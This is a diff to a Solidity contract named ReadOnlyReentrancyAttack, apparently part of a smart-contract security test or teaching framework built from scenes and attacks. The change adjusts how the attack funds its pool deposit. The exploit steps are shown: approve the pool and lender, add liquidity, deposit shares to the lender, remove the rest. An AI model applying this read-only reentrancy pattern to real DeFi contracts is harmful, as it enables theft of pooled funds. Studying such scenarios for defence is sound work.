@@ -149,15 +149,17 @@ contract ReadOnlyReentrancyScene is Scene {
 contract ReadOnlyReentrancyAttack is Attack {
     EtherPool private immutable pool;
     ShareLender private immutable lender;
+    uint256 private immutable stake;
 
     constructor(ReadOnlyReentrancyScene scene) Attack(scene) {
-        (pool, lender) = (scene.pool(), scene.lender());
+        (pool, lender, stake) = (scene.pool(), scene.lender(), scene.stake());
     }
 
     function _act(uint256, uint256, uint256) internal override {
         loanToken.approve(address(pool), type(uint256).max);
         pool.approve(address(lender), type(uint256).max);
-        uint256 shares = pool.add{value: msg.value}(loanAmount);
+        // A lender's callback carries no value: the stake is already here.
+        uint256 shares = pool.add{value: stake}(loanAmount);
         lender.deposit(shares / 20);
         pool.remove(shares - shares / 20);
     }
